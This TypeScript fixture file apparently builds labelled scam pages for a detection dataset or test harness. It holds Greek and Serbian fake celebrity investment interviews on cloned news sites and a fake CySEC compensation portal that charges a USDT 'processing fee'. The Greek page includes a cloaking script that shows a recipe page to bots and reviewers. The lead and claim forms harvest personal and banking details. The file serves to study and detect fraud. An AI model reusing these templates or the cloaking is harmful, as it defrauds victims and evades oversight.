import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, doc, newsFrame, photo } from '../parts/xc-kit.js';

// Greek fake interview: a "white page" recipe blog for visitors without an ad click id, the fake article for the rest.
const grArticle = `<div class="meta">ΟΙΚΟΝΟΜΙΑ · 14.11.2025 · 09:12</div>
<h1>Η Έλενα Παπαδάκη εξομολογείται: «Πώς έφτιαξα δεύτερο εισόδημα 9.000 € τον μήνα από το κινητό μου»</h1>
<figure>${photo('ΕΠ', 205)}<figcaption>Η δημοφιλής παρουσιάστρια στο στούντιο της εκπομπής</figcaption></figure>
<p>Σε μια συνέντευξη που δεν προλάβαμε να δημοσιεύσουμε ολόκληρη πριν από την παρέμβαση της Τράπεζας της Ελλάδος, η γνωστή παρουσιάστρια μίλησε για την πλατφόρμα <b>Immediate Aegean</b>.</p>
<blockquote>«Οι τράπεζες δεν θέλουν να το μάθετε. Έβαλα 250 ευρώ και το σύστημα έκανε όλη τη δουλειά.»</blockquote>
<p>Η πλατφόρμα χρησιμοποιεί «κβαντική τεχνητή νοημοσύνη» για να αγοράζει και να πουλάει κρυπτονομίσματα. Μέχρι σήμερα έχουν εγγραφεί 11.400 Έλληνες.</p>
<p style="text-align:center"><a href="https://immediate-aegean.app/gr/signup?cid={cid}" style="display:inline-block;background:#1e9e4a;color:#fff;padding:16px 30px;border-radius:6px;font:700 18px Arial;text-decoration:none">ΔΟΚΙΜΑΣΤΕ ΤΟ ΤΩΡΑ ΔΩΡΕΑΝ »</a></p>
<p style="font:12px Arial;color:#888">Οι θέσεις για την Ελλάδα είναι περιορισμένες.</p>`;
const grWhite = `<div style="max-width:640px;margin:40px auto;font-family:Georgia"><h1>Σπανακόπιτα της γιαγιάς</h1><p>Υλικά: 1 κιλό σπανάκι, 400 γρ. φέτα, 2 αυγά, φύλλο κρούστας, ελαιόλαδο.</p><p>Πλένουμε και ψιλοκόβουμε το σπανάκι…</p></div>`;
const grCloaked = newsFrame({
  lang: 'el',
  title: 'Καθημερινή Οικονομία',
  outlet: 'Η ΚΑΘΗΜΕΡΙΝΗ · Οικονομία',
  color: '#1a1a1a',
  nav: ['Ελλάδα', 'Πολιτική', 'Οικονομία', 'Κόσμος', 'Γνώμες', 'Lifestyle'],
  article: `<div id="art"></div>`,
  sidebar: `<h4>Δημοφιλή</h4><p>Πώς θα κινηθούν τα επιτόκια</p><p>Ενοίκια: νέα μέτρα</p>`,
  head: `<script>document.addEventListener('DOMContentLoaded',function(){var q=new URLSearchParams(location.search),c=q.get('gclid')||q.get('fbclid')||q.get('cid');
var ok=c&&!navigator.webdriver&&/Android|iPhone|Windows|Mac/.test(navigator.userAgent)&&(navigator.language||'').slice(0,2)==='el';
document.getElementById('art').innerHTML=ok?decodeURIComponent(escape(atob('${b64(grArticle)}'))).replace('{cid}',encodeURIComponent(c)):decodeURIComponent(escape(atob('${b64(grWhite)}')));})</script>`,
});
const grSignup = doc({
  lang: 'el',
  title: 'Immediate Aegean – Εγγραφή',
  css: `body{background:#071a2b;color:#fff}.f{max-width:420px;margin:40px auto;background:#fff;color:#111;padding:26px;border-radius:12px}.f input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccd;border-radius:6px}.f button{width:100%;background:#1e9e4a;color:#fff;border:0;padding:14px;border-radius:6px;font-size:16px}`,
  body: `<div class="f"><h2>Δημιουργήστε λογαριασμό</h2><p style="font-size:13px">Ένας προσωπικός σύμβουλος θα σας καλέσει μέσα σε 15 λεπτά για την ενεργοποίηση.</p>
<form method="post" action="https://crm.aegean-leads.net/api/v1/push"><input name="fname" placeholder="Όνομα" required><input name="lname" placeholder="Επώνυμο" required><input name="email" placeholder="Email" required><input name="phone" placeholder="+30" required>
<input type="hidden" name="source" value="kathimerini-clone"><button>ΕΓΓΡΑΦΗ</button></form></div>`,
});

// Serbian fake interview on a tabloid clone; the CTA goes through a tracker to the platform.
const rsArticle = newsFrame({
  lang: 'sr-Latn',
  title: 'Novak otkrio tajnu: ovako Srbi zarađuju od kuće – Blic Biznis',
  outlet: 'BLIC · Biznis',
  color: '#d71920',
  nav: ['Vesti', 'Politika', 'Biznis', 'Sport', 'Zabava', 'Slobodno vreme'],
  extraCss: `.cta{display:block;background:#ffcc00;color:#000;text-align:center;padding:16px;font:700 18px Arial;text-decoration:none;border-radius:4px;margin:18px 0}.cm{font:14px Arial;border-top:1px solid #eee;padding:8px 0}`,
  article: `<div class="meta">Biznis · 09.11.2025.</div>
<h1>Dragan Milošević u emisiji uživo: „Platforma koja me je obogatila dostupna je svim građanima Srbije“</h1>
<figure>${photo('DM', 350)}<figcaption>Voditelj je nakon emisije odbio da komentariše za druge medije</figcaption></figure>
<p>Popularni voditelj je gledaocima otkrio da već dve godine koristi platformu <b>Quantum Serbia</b> i da mu ona donosi više nego posao na televiziji. Narodna banka Srbije je, kako saznajemo, zatražila da se snimak ukloni.</p>
<blockquote>„Uložio sam 25.000 dinara. Posle mesec dana na računu sam imao 640.000. Nije kockanje, sve radi veštačka inteligencija.“</blockquote>
<p>Naš novinar je testirao platformu. Evo kako da se registrujete:</p>
<ol><li>Popunite formular na sajtu platforme</li><li>Sačekajte poziv ličnog menadžera</li><li>Uplatite minimalni depozit od 250 €</li></ol>
<a class="cta" href="https://trk.rsoffers.click/c?o=qs&s=blic">👉 REGISTRUJ SE NA QUANTUM SERBIA</a>
<div class="cm"><b>Jelena M.:</b> Meni je prva isplata legla za 2 dana 😍</div><div class="cm"><b>Milan P.:</b> Istina je, komšija je kupio auto od ovoga.</div>`,
  sidebar: `<h4>Najčitanije</h4><p>Penzije rastu od decembra</p><p>Vremenska prognoza</p><p>Cene goriva</p>`,
});
const rsPlatform = doc({
  lang: 'sr-Latn',
  title: 'Quantum Serbia – zvanični sajt',
  css: `body{background:linear-gradient(135deg,#0a2540,#113b67);color:#fff}.w{max-width:980px;margin:0 auto;padding:40px 20px;display:grid;grid-template-columns:1fr 380px;gap:30px}
.f{background:#fff;color:#111;padding:24px;border-radius:12px}.f input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccd;border-radius:6px}.f button{width:100%;background:#ff7a00;color:#fff;border:0;padding:14px;border-radius:6px;font-weight:700}`,
  body: `<div class="w"><div><h1>Quantum Serbia</h1><p style="font-size:20px">Zaradite prosečno 35.000 dinara dnevno uz automatsko trgovanje.</p><p>✔ Bez iskustva ✔ Isplate na karticu ✔ Lični menadžer</p></div>
<div class="f"><h3>Besplatna registracija</h3><form method="post" action="/api/register"><input name="ime" placeholder="Ime" required><input name="prezime" placeholder="Prezime" required><input name="email" placeholder="E-mail" required><input name="telefon" placeholder="+381" required><input type="hidden" name="clickid" value="blic-091125"><button>POČNI DA ZARAĐUJEŠ</button></form></div></div>`,
});

// Fake "CySEC Investor Compensation Fund" claim page charging a processing fee.
const cysecPage = doc({
  lang: 'en',
  title: 'Investor Compensation Fund – Claim Portal | CySEC',
  css: `.top{background:#002b5c;color:#fff;padding:16px 30px;display:flex;align-items:center;gap:14px}.top b{font-size:18px}
.m{max-width:820px;margin:26px auto;background:#fff;padding:28px;border:1px solid #d5dce6}.m h1{color:#002b5c;font-size:24px}.st{display:flex;gap:6px;margin:16px 0}
.st span{flex:1;background:#e6ecf4;padding:8px;font-size:12px;text-align:center}.st .on{background:#002b5c;color:#fff}
label{display:block;font-size:13px;margin:10px 0 4px}input,select{width:100%;padding:10px;border:1px solid #a8b5c6}.fee{background:#fff6d6;border:1px solid #e8cf74;padding:14px;margin:16px 0;font-size:14px}
button{background:#002b5c;color:#fff;border:0;padding:12px 28px;font-size:15px;margin-top:14px}`,
  body: `<div class="top"><svg width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="18" fill="#fff"/><text x="20" y="25" text-anchor="middle" font-size="11" font-weight="700" fill="#002b5c" font-family="Arial">ICF</text></svg><b>Investor Compensation Fund<br><span style="font-weight:400;font-size:13px">Κυπριακή Επιτροπή Κεφαλαιαγοράς · Cyprus Securities and Exchange Commission</span></b></div>
<div class="m"><h1>Compensation claim – case CY-ICF-25-04417</h1>
<p>Dear claimant, following the revocation of the CIF licence of <b>Capitalix Markets Ltd</b>, your claim for <b>€ 18,640.00</b> has been approved by the Fund's Administrative Committee.</p>
<div class="st"><span>Claim filed</span><span>Verified</span><span class="on">Processing fee</span><span>Payout</span></div>
<form id="cl"><label>Full name</label><input name="name" required><label>Passport / ID number</label><input name="doc" required><label>IBAN for payout</label><input name="iban" required>
<label>Country</label><select name="country"><option>Cyprus</option><option>Greece</option><option>Bulgaria</option><option>Other EU</option></select>
<div class="fee">Under Directive DI87-07 a refundable <b>processing and anti-money-laundering fee of € 1,120.00 (6%)</b> must be settled before the payout. Payment by bank transfer to the Fund's escrow agent or in USDT/BTC for faster release (24 h).</div>
<label>Payment method</label><select name="pm"><option>USDT (TRC20) – released in 24 h</option><option>Bitcoin</option><option>Bank transfer – 10 working days</option></select>
<button>Proceed to payment</button></form>
<div id="pi" style="display:none;margin-top:16px"><p>Send exactly <b>1,120 USDT</b> to: <code>TNd8vQ2zL6kXw3Ep9RmY4sB1tCjHfU7aGo</code></p><p>Then upload the transaction receipt to <a href="mailto:claims@icf-cysec-gov.org">claims@icf-cysec-gov.org</a>.</p></div></div>
<script>document.getElementById('cl').onsubmit=function(e){e.preventDefault();fetch('/claims/api/step3',{method:'POST',body:new FormData(this)});document.getElementById('pi').style.display='block'}</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-invest-fake-interview-gr',
    label: 'scam',
    kind: 'cloaked-fake-interview-investment',
    url: 'https://kathimerini-oikonomia.news-gr.site/2025/11/elena-papadaki-eisodima/?gclid=Cj0KCQiA7',
    body: grCloaked,
    routes: { 'immediate-aegean.app/gr/signup': htmlRoute(grSignup) },
  },
  {
    id: 'xc-invest-fake-interview-rs',
    label: 'scam',
    kind: 'fake-news-celebrity-investment',
    url: 'https://blic-biznis.rs-vesti.online/biznis/dragan-milosevic-platforma/',
    body: rsArticle,
    routes: {
      'trk.rsoffers.click/c': redirectRoute(302, 'https://quantum-serbia.app/sr/?clickid=blic-091125'),
      'quantum-serbia.app/sr/': htmlRoute(rsPlatform),
    },
  },
  {
    id: 'xc-recovery-cysec-fund-cy',
    label: 'scam',
    kind: 'fake-regulator-compensation-fee',
    url: 'https://icf-cysec-gov.org/claims/CY-ICF-25-04417',
    body: cysecPage,
  },
];
